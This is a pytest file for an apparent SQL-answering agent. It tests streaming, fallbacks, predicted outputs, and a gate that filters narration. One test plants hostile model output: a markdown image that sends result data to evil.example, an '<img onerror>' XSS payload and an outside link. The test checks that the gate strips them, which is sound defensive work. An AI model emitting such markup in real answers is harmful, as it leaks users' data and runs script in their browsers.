"""Streamed answers: the client's deltas and fallbacks, predicted outputs on repair, and
``Agent.ask_stream`` (event order, the same answer as ``ask``, narration checked before it
is shown), over real HTTP to the fake endpoint with the real ``openai`` client."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from sqlagent import Agent
from sqlagent.answer.gate import NarrationGate
from sqlagent.db import connect
from sqlagent.errors import UsageError
from sqlagent.llm.client import OpenAILLM
from sqlagent.settings import Settings
from sqlagent.store.history import HistoryStore
from sqlagent.streaming import (
    Finished,
    NarrationDelta,
    SQLReady,
    StreamEvent,
    TableReady,
)
from sqlagent.testing import FakeOpenAIServer

PHOENIX_Q = "Which merchants are based in Phoenix, and how many are there?"
PHOENIX_SQL = (
    "SELECT DISTINCT merchant_name FROM merchants WHERE city = 'Phoenix' ORDER BY merchant_name"
)
BAD_SQL = "SELECT DISTINCT name FROM merchants WHERE city = 'Phoenix' ORDER BY name"
NARRATION = (
    "There are 9 unique merchants in Phoenix. They are listed in the table, by name. "
    "The first one is Camelback Coffee Roasters."
)
HELLO = [{"role": "user", "content": "hi"}]


def agent_for(server: FakeOpenAIServer, db_path: Path, **settings: object) -> Agent:
    base = Settings(model="fake-model", base_url=server.base_url, llm_timeout=5.0, history=False)
    return Agent(connect(db_path), settings=base.with_(**settings))


def sql_reply(sql: str) -> str:
    return f"```sql\n{sql}\n```"


def deltas(events: list[StreamEvent]) -> list[str]:
    return [e.text for e in events if isinstance(e, NarrationDelta)]


# --------------------------------------------------------------------------- the client


def test_stream_yields_several_deltas_that_join_to_the_plain_reply() -> None:
    with FakeOpenAIServer([NARRATION, NARRATION]) as server:
        llm = OpenAILLM("fake-model", base_url=server.base_url)
        stream = llm.stream(HELLO)
        pieces = list(stream)
        plain = llm.complete(HELLO)
        requests = list(server.requests)
    assert len(pieces) > 5
    assert "".join(pieces) == plain.text == NARRATION
    assert stream.completion is not None and stream.completion.text == NARRATION
    # The usage came in the stream's last chunk, asked for with stream_options.
    assert stream.completion.usage.completion_tokens == plain.usage.completion_tokens > 0
    assert requests[0]["stream"] is True
    assert requests[0]["stream_options"] == {"include_usage": True}
    assert "stream" not in requests[1]


def test_refused_streaming_falls_back_to_one_delta_and_is_remembered() -> None:
    with FakeOpenAIServer([NARRATION, NARRATION], rejects=("stream",)) as server:
        llm = OpenAILLM("fake-model", base_url=server.base_url)
        first = llm.stream(HELLO)
        assert list(first) == [NARRATION]
        assert first.completion is not None and first.completion.usage.completion_tokens > 0
        after_first = len(server.requests)
        assert "stream" in llm.unsupported
        # Through complete(on_token=...) too, as the chain narrates.
        tokens: list[str] = []
        assert llm.complete(HELLO, on_token=tokens.append).text == NARRATION
        requests = list(server.requests)
    assert tokens == [NARRATION]
    assert after_first == 2  # refused once, then asked plainly
    assert requests[0]["stream"] is True and "stream" not in requests[1]
    # The second call did not try to stream: one request, plain.
    assert len(requests) == 3
    assert "stream" not in requests[2] and "stream_options" not in requests[2]


def test_a_server_that_ignores_stream_is_read_whole_and_remembered() -> None:
    with FakeOpenAIServer([NARRATION, NARRATION], streams=False) as server:
        llm = OpenAILLM("fake-model", base_url=server.base_url)
        first = llm.stream(HELLO)
        assert list(first) == [NARRATION]
        assert first.completion is not None and first.completion.usage.completion_tokens > 0
        assert list(llm.stream(HELLO)) == [NARRATION]
        requests = list(server.requests)
    assert requests[0]["stream"] is True
    assert len(requests) == 2 and "stream" not in requests[1]


def test_a_rejected_stream_options_still_streams() -> None:
    with FakeOpenAIServer([NARRATION], rejects=("stream_options",)) as server:
        llm = OpenAILLM("fake-model", base_url=server.base_url)
        pieces = list(llm.stream(HELLO))
    assert len(pieces) > 5 and "".join(pieces) == NARRATION
    assert llm.unsupported == {"stream_options"}  # streaming itself is not given up


# --------------------------------------------------------------------------- prediction


def test_a_repair_sends_the_failed_query_as_its_predicted_output(sample_db_path: Path) -> None:
    script = [sql_reply(BAD_SQL), sql_reply(PHOENIX_SQL), NARRATION]
    with FakeOpenAIServer(script) as server, agent_for(server, sample_db_path) as agent:
        answer = agent.ask(PHOENIX_Q)
        requests = list(server.requests)
    assert answer.ok and answer.row_count == 9
    assert "prediction" not in requests[0]  # nothing to predict the first time
    assert requests[1]["prediction"] == {"type": "content", "content": BAD_SQL}
    assert "prediction" not in requests[2]  # the narration


def test_a_rejected_prediction_is_not_sent_again(sample_db_path: Path) -> None:
    script = [sql_reply(BAD_SQL), sql_reply(PHOENIX_SQL), NARRATION] * 2
    with (
        FakeOpenAIServer(script, rejects=("prediction",)) as server,
        agent_for(server, sample_db_path) as agent,
    ):
        first = agent.ask(PHOENIX_Q)
        after_first = len(server.requests)
        second = agent.ask(PHOENIX_Q)
        requests = list(server.requests)
    assert first.ok and second.ok
    # The first repair was refused once (naming prediction) and asked again without it.
    assert after_first == 4
    assert "prediction" in requests[1] and "prediction" not in requests[2]
    # The second question's repair went without it straight away.
    assert len(requests) == 7
    assert not any("prediction" in r for r in requests[4:])


def test_the_fake_server_reports_accepted_prediction_tokens() -> None:
    with FakeOpenAIServer([PHOENIX_SQL]) as server:
        llm = OpenAILLM("fake-model", base_url=server.base_url)
        llm.complete(HELLO, prediction=BAD_SQL)
        from sqlagent.testing import _usage_for

        usage = _usage_for(server.requests[0], PHOENIX_SQL)
    details = usage["completion_tokens_details"]
    assert 0 < details["accepted_prediction_tokens"] < usage["completion_tokens"]


# --------------------------------------------------------------------------- ask_stream


def test_ask_stream_events_come_in_order_and_end_with_the_answer_ask_gives(
    sample_db_path: Path, tmp_path: Path
) -> None:
    script = [sql_reply(BAD_SQL), sql_reply(PHOENIX_SQL), NARRATION]
    stores = [str(tmp_path / "asked.sqlite3"), str(tmp_path / "streamed.sqlite3")]
    with FakeOpenAIServer(script * 2) as server:
        with agent_for(server, sample_db_path, history=True, history_path=stores[0]) as agent:
            asked = agent.ask(PHOENIX_Q)
        with agent_for(server, sample_db_path, history=True, history_path=stores[1]) as agent:
            events = list(agent.ask_stream(PHOENIX_Q))
    kinds = [type(e).__name__ for e in events]
    assert kinds[0] == "SQLReady" and kinds[-1] == "Finished"
    assert kinds.index("TableReady") < kinds.index("NarrationDelta")
    assert "Finished" not in kinds[:-1]
    [sql_ready] = [e for e in events if isinstance(e, SQLReady)]  # the bad one never passed
    assert sql_ready.sql == asked.sql
    [table] = [e for e in events if isinstance(e, TableReady)]
    assert table.rows == asked.rows and table.columns == asked.columns
    done = events[-1]
    assert isinstance(done, Finished) and not done.replaced
    streamed = done.answer
    assert len(deltas(events)) >= 3
    assert "".join(deltas(events)) == streamed.narrative == asked.narrative == NARRATION
    for name in ("question", "sql", "columns", "rows", "truncated", "verified", "error"):
        assert getattr(streamed, name) == getattr(asked, name), name
    assert [(a.sql, a.error) for a in streamed.attempts] == [
        (a.sql, a.error) for a in asked.attempts
    ]
    assert [s.name for s in streamed.trace.steps] == [s.name for s in asked.trace.steps]
    assert streamed.trace.usage == asked.trace.usage
    # Both recorded the same way.
    [a_rec] = HistoryStore(stores[0]).list()
    [s_rec] = HistoryStore(stores[1]).list()
    assert s_rec.id == streamed.id
    ignore = {"id": "", "created_at": "", "timings": {}, "duration": 0.0}
    assert replace(s_rec, **ignore) == replace(a_rec, **ignore)  # type: ignore[arg-type]


def test_a_streamed_ungrounded_image_or_tag_is_never_shown(sample_db_path: Path) -> None:
    narration = (
        "There are 9 merchants in Phoenix. "
        '![the chart](https://evil.example/c.png?d=Camelback "a title") See the table. '
        "The first is <img src=x onerror=alert(1)> Camelback Coffee Roasters.\n"
        "[More here](https://evil.example/more) for details."
    )
    script = [sql_reply(PHOENIX_SQL), narration]
    with FakeOpenAIServer(script) as server, agent_for(server, sample_db_path) as agent:
        events = list(agent.ask_stream(PHOENIX_Q))
    shown = deltas(events)
    assert len(shown) >= 3
    for piece in shown:
        assert "evil.example" not in piece and "<img" not in piece and "![" not in piece
    done = events[-1]
    assert isinstance(done, Finished) and not done.replaced
    assert "".join(shown) == done.answer.narrative
    assert "evil.example" not in done.answer.narrative
    assert "More here for details." in done.answer.narrative  # the link's words stay


def test_a_narration_with_an_invented_number_is_held_back_and_replaced(
    sample_db_path: Path,
) -> None:
    invented = "There are 9 merchants in Phoenix. Together they sold 48,213 coffees. Enjoy."
    again = "There are 9 merchants in Phoenix, listed in the table."
    script = [sql_reply(PHOENIX_SQL), invented, again]
    with FakeOpenAIServer(script) as server, agent_for(server, sample_db_path) as agent:
        events = list(agent.ask_stream(PHOENIX_Q))
    shown = "".join(deltas(events))
    assert "48,213" not in shown and "Enjoy" not in shown
    assert shown == "There are 9 merchants in Phoenix."
    done = events[-1]
    assert isinstance(done, Finished)
    assert done.replaced and done.answer.narrative == again


def test_ask_stream_raises_what_ask_raises(sample_db_path: Path) -> None:
    with (
        FakeOpenAIServer([]) as server,
        agent_for(server, sample_db_path) as agent,
        pytest.raises(UsageError),
    ):
        list(agent.ask_stream("   "))


def test_a_narration_without_a_model_comes_whole_at_the_end(sample_db_path: Path) -> None:
    script = [sql_reply(PHOENIX_SQL)]
    with (
        FakeOpenAIServer(script) as server,
        agent_for(server, sample_db_path, narrate=False) as agent,
    ):
        events = list(agent.ask_stream(PHOENIX_Q))
    done = events[-1]
    assert isinstance(done, Finished) and done.answer.narrative
    assert deltas(events) == [done.answer.narrative]


# --------------------------------------------------------------------------- the gate


def feed_all(gate: NarrationGate, text: str, size: int = 3) -> list[str]:
    out = [gate.feed(text[i : i + size]) for i in range(0, len(text), size)]
    return [piece for piece in out if piece]


def test_the_gate_holds_a_link_until_it_closes_and_strips_it() -> None:
    gate = NarrationGate(["Phoenix"], lambda text: [])
    text = "Busy city. See [the list](https://e.example/x?d=Phoenix) now. Bye. "
    released = feed_all(gate, text)
    assert released == ["Busy city.", " See the list now.", " Bye."]
    assert not any("e.example" in piece for piece in released)


def test_the_gate_keeps_a_link_the_result_holds() -> None:
    gate = NarrationGate(["https://shop.example/a"], lambda text: [])
    released = feed_all(gate, "Order at [the shop](https://shop.example/a). Done. ")
    assert released[0] == "Order at [the shop](https://shop.example/a)."


def test_the_gate_stops_at_an_invented_number() -> None:
    gate = NarrationGate([], lambda text: ["12"] if "12" in text else [])
    released = feed_all(gate, "Fine. Sold 12 cars. More text. ")
    assert released == ["Fine."] and gate.blocked


def test_the_gate_cuts_a_long_sentence_at_a_space_but_not_after_a_digit() -> None:
    gate = NarrationGate([], lambda text: [])
    text = "word " * 60 + "about 1.2 thousand more " + "word " * 20
    released = feed_all(gate, text, size=7)
    assert len(released) >= 2
    assert all(not piece.rstrip().endswith("1.2") for piece in released)
    assert text.startswith("".join(released))


def test_a_model_without_the_prediction_keyword_is_repaired_without_it(
    sample_db_path: Path,
) -> None:
    from sqlagent.testing import ScriptedLLM

    class Plain:
        """A model implementing only the protocol's keywords."""

        def __init__(self) -> None:
            self.inner = ScriptedLLM([sql_reply(BAD_SQL), sql_reply(PHOENIX_SQL), NARRATION])
            self.model = "plain"

        def complete(self, messages, *, temperature=0.0, on_token=None):  # type: ignore[no-untyped-def]
            return self.inner.complete(messages, temperature=temperature, on_token=on_token)

    plain = Plain()
    scripted = ScriptedLLM([sql_reply(BAD_SQL), sql_reply(PHOENIX_SQL), NARRATION])
    for llm in (plain, scripted):
        with Agent(connect(sample_db_path), llm=llm, settings=Settings(history=False)) as agent:
            assert agent.ask(PHOENIX_Q).ok
    assert [c.prediction for c in plain.inner.calls] == [None, None, None]
    assert [c.prediction for c in scripted.calls] == [None, BAD_SQL, None]
